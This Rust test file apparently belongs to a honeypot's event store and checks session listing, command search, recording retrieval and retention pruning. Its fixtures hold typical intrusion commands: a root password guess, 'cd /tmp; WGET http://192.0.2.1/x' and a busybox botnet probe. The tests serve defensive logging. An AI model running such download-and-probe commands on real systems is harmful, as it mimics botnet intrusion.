//! Sessions worth seeing again: which get a row, how they are found, and that they go with their events.

use kizashi_event::{Detail, Event, Payload, PayloadHash, PayloadOrigin, SessionId, Timestamp};
use kizashi_store::{Mode, Reader, Retention, Span, Store};

use crate::support::{Folder, event, live, login, midnight, settings};

fn of(session: u64, number: u64, detail: Detail) -> Event {
    let time = midnight().plus(i64::try_from(number).unwrap() * 1_000_000);
    Event { session: Some(SessionId(session)), ..event(number, time, 7, 23, detail) }
}

fn command(line: &str) -> Detail {
    Detail::Command { line: line.into(), known: None }
}

fn content(bytes: &[u8]) -> Box<Payload> {
    Box::new(Payload {
        sha256: PayloadHash([bytes[0]; 32]),
        size: Some(bytes.len() as u64),
        content: bytes.to_vec(),
        origin: PayloadOrigin::Sent,
        name: None,
        url: None,
        left_out: false,
    })
}

#[test]
fn a_session_is_listed_found_by_a_command_and_read_whole() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(600_000_000));
    let recording = Detail::Recording { part: 0, content: content(b"a recording") };
    let events = vec![
        of(1, 1, Detail::Connect),
        of(1, 2, login("root", "wrong")),
        of(2, 3, Detail::Connect),
        of(2, 4, command("cd /tmp; WGET http://192.0.2.1/x")),
        of(2, 5, command("/bin/busybox ECCHI")),
        of(2, 6, recording),
        of(2, 7, Detail::Close { duration_ms: None, received: None }),
        of(3, 8, command("uname -a")),
    ];
    store.inlet().commit(events).unwrap();
    let reader = Reader::open(folder.path()).unwrap();
    let all = reader.sessions(None, Span::default(), 10).unwrap();
    let ids: Vec<u64> = all.iter().map(|session| session.id.0).collect();
    assert_eq!(ids, [3, 2], "a session of wrong guesses alone has no row");
    assert_eq!((all[1].commands, all[1].recordings, all[1].logins), (2, 1, 0));
    for (text, expected) in [("wget", vec![2]), ("busybox", vec![2]), ("a", vec![3]), ("%", vec![])]
    {
        let found = reader.sessions(Some(text), Span::default(), 10).unwrap();
        let ids: Vec<u64> = found.iter().map(|session| session.id.0).collect();
        assert_eq!(ids, expected, "{text}");
    }
    let session = reader.session(SessionId(2)).unwrap().unwrap();
    let events = reader.session_events(&session).unwrap();
    let actions: Vec<&str> = events.iter().map(|event| event.detail.action()).collect();
    assert_eq!(actions, ["connect", "command", "command", "recording", "close"]);
    assert_eq!(
        reader.recording(PayloadHash([b'a'; 32])).unwrap().as_deref(),
        Some(&b"a recording"[..])
    );
    assert_eq!(reader.session(SessionId(1)).unwrap(), None);
    let mut told = 0;
    reader
        .raw_events(Span::default(), |_| {
            told += 1;
            Ok::<(), kizashi_store::StoreError>(())
        })
        .unwrap();
    assert_eq!(told, 8);
}

#[test]
fn a_recording_is_no_payload_in_rankings() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(600_000_000));
    let recording = Detail::Recording { part: 0, content: content(b"b") };
    store.inlet().commit(vec![of(1, 1, recording)]).unwrap();
    let reader = Reader::open(folder.path()).unwrap();
    let ranking = reader.top(kizashi_event::KeyKind::Payload, Span::default(), 10).unwrap();
    assert!(ranking.is_empty());
}

#[test]
fn a_session_goes_with_its_raw_events() {
    let folder = Folder::new();
    let now = midnight().plus(30 * Timestamp::DAY);
    let retention = Retention { raw_days: 10, ..Retention::default() };
    let settings = kizashi_store::Settings { retention, ..settings(now, Mode::Live) };
    let store = Store::open(folder.path(), settings).unwrap();
    let late = Event { time: now.plus(-1_000_000), ..of(5, 9_999, command("id")) };
    store.write(vec![of(4, 1, command("uname -a")), late]).unwrap();
    store.flush().unwrap();
    assert_eq!(store.maintain(now).unwrap().by_age, 1);
    let left = store.reader().unwrap().sessions(None, Span::default(), 10).unwrap();
    assert_eq!(left.iter().map(|session| session.id.0).collect::<Vec<_>>(), [5]);
    assert!(
        store.reader().unwrap().sessions(Some("uname"), Span::default(), 9).unwrap().is_empty()
    );
}
